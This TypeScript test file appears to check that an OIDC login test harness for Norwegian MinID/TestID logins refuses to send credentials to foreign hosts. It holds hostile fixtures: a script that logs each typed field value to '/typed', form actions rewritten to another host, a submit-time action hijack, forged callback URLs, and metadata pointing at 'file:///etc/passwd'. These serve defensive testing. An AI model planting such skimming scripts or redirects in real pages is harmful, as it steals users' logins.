import { afterAll, afterEach, describe, expect, test, vi } from 'vitest'
import { pids } from '../oidc/op.fixture.ts'
import { type Listener, type Rewrite, rewriting, startElsewhere } from './rewritten.fixture.ts'
import { type TestSessionOptions, withSession } from './session.fixture.ts'

/** A browser on a busy machine takes its time. */
vi.setConfig({ testTimeout: 120_000 })

const minid = { password: 'password01', oneTimeCode: '12345' }
const fields = `<form method="post"><label>Fødselsnummer <input id="pid" name="pid"></label>
  <label>Passord <input id="password" name="password" type="password"></label>
  <button id="submit-button">Neste</button></form>
  <script>for (const field of document.querySelectorAll('input'))
    field.addEventListener('input', () => fetch('/typed?' + encodeURIComponent(field.value)))</script>`

const opened: { close(): Promise<void> }[] = []
afterAll(() => vi.resetConfig())
afterEach(async () => {
  for (const each of opened.splice(0)) await each.close()
})

const elsewhere = async (page?: string): Promise<Listener> => {
  const listener = await startElsewhere(page)
  opened.push(listener)
  return listener
}

/** A login at a provider with these pages: why it failed. */
const failureOf = async (
  options: TestSessionOptions,
  rewrite: Rewrite = (html) => html,
  persona: 'MAIN' | 'RESERVED' = 'MAIN',
): Promise<string> => {
  const front = rewriting(rewrite)
  opened.push(front)
  let message = 'it went through'
  await withSession({ ...options, op: { ...options.op, front: front.front } }, async (all) => {
    const scopes = ['krr:user/kontaktinformasjon.read'] as const
    await all.session
      .login(persona, scopes)
      // A response that was refused is a reading too: it has no tokens.
      .then(() => all.session.tokens(persona, scopes))
      .catch((error: Error) => {
        message = error.message
      })
  })
  return message
}

describe('on a page of another host nothing is entered', () => {
  test('a link of the selector leads to a MinID elsewhere', async () => {
    const other = await elsewhere(fields)
    const message = await failureOf({ environment: { login: 'minid', minid } }, (html) =>
      html.replace('href="/authorize/minid"', `href="${other.origin}/authorize/minid"`),
    )
    expect(message).toMatch(
      /step "minid": the page is on localhost:\d+, which is no host of this environment, so nothing is sent there; if it is meant, name it in KRR_MINE_LOGIN_HOSTS/,
    )
    expect(other.arrivals.filter((arrival) => arrival.startsWith('POST'))).toEqual([])
    expect(other.arrivals.filter((arrival) => arrival.includes('/typed'))).toEqual([])
  })

  test('TestID with a form whose action is elsewhere', async () => {
    const other = await elsewhere()
    const typed: string[] = []
    const message = await failureOf({ environment: { login: 'testid' } }, (html, path) => {
      typed.push(path)
      return html.replace('<form method="post">', `<form method="post" action="${other.origin}/">`)
    })
    expect(message).toMatch(/step "testid": the form is on localhost:\d+, which is no host/)
    expect(other.arrivals).toEqual([])
  })

  test('a form whose action a script changes when it is sent', async () => {
    const other = await elsewhere()
    const message = await failureOf({ environment: { login: 'testid' } }, (html, path) =>
      path.startsWith('/authorize/testid')
        ? html.replace(
            '</body>',
            `<script>document.forms[0].addEventListener('submit', (event) => { event.target.action = '${other.origin}/' })</script></body>`,
          )
        : html,
    )
    expect(message).toMatch(/step "testid": the next page is on localhost:\d+, which is no host/)
    expect(other.arrivals).toEqual([])
  })

  test('the same form, sent without a page', async () => {
    const other = await elsewhere()
    const message = await failureOf(
      { environment: { login: 'testid' }, session: { pids } },
      (html) =>
        html.replace('<form method="post">', `<form method="post" action="${other.origin}/">`),
      'RESERVED',
    )
    expect(message).toMatch(/the form of the login page is on localhost:\d+, which is no host/)
    expect(other.arrivals).toEqual([])
  })

  test('a host that was named is one of the environment’s', async () => {
    const other = await elsewhere('<p>Thank you</p>')
    const message = await failureOf(
      { environment: { login: 'testid' }, withHosts: [new URL(other.origin).host] },
      (html) =>
        html.replace('<form method="post">', `<form method="post" action="${other.origin}/">`),
    )
    expect(other.arrivals).toEqual([`POST / pid=${pids.MAIN}`])
    expect(message).not.toContain('which is no host')
  })
})

describe('what is asked for beside the page is no callback', () => {
  const forged = 'http://localhost:3000/callback?code=forged&amp;state=forged'

  test.each([
    ['an image', `<img src="${forged}">`],
    ['a frame', `<iframe src="${forged}"></iframe>`],
    ['a script', `<script src="${forged}"></script>`],
  ])('%s', async (_, markup) => {
    const message = await failureOf({ environment: { login: 'testid' } }, (html) =>
      html.replace('</main>', `${markup}</main>`),
    )
    expect(message).toBe('it went through')
  })
})

describe('metadata that lead elsewhere', () => {
  const changed = (change: Record<string, unknown>, login: 'testid' | 'headless' = 'headless') => ({
    environment: { login },
    injections: { providerMetadata: (own: object) => ({ ...own, ...change }) },
  })

  test.each([
    ['token_endpoint', '"token_endpoint" of the metadata is on localhost'],
    ['authorization_endpoint', '"authorization_endpoint" of the metadata is on localhost'],
    ['jwks_uri', 'it went through'],
  ])('%s on another host is sent nothing', async (member, expected) => {
    const other = await elsewhere()
    const message = await failureOf(changed({ [member]: `${other.origin}/here` }))
    expect(message).toContain(expected)
    expect(other.arrivals).toEqual([])
  })

  test.each([
    ['http://idporten.example/token', 'must be https, but is http on a host that is not loopback'],
    ['file:///etc/passwd', 'must be https, but is file'],
  ])('a token endpoint at %s is sent nothing', async (address, expected) => {
    expect(await failureOf(changed({ token_endpoint: address }))).toContain(expected)
  })

  test.each(['testid', 'headless'] as const)(
    'of another issuer they are not used: %s',
    async (login) => {
      const asked: string[] = []
      const { environment, injections } = changed({ issuer: 'https://issuer.example' }, login)
      const op = { onRequest: ({ path }: { path: string }) => void asked.push(path) }
      expect(await failureOf({ environment, injections, op })).toMatch(
        /they do not name the configured issuer \(KRR-OP-001\), so they must not be used \(RFC 8414, 3\.3\)/,
      )
      expect(asked).toEqual(['/.well-known/openid-configuration', '/jwks.json'])
    },
  )
})
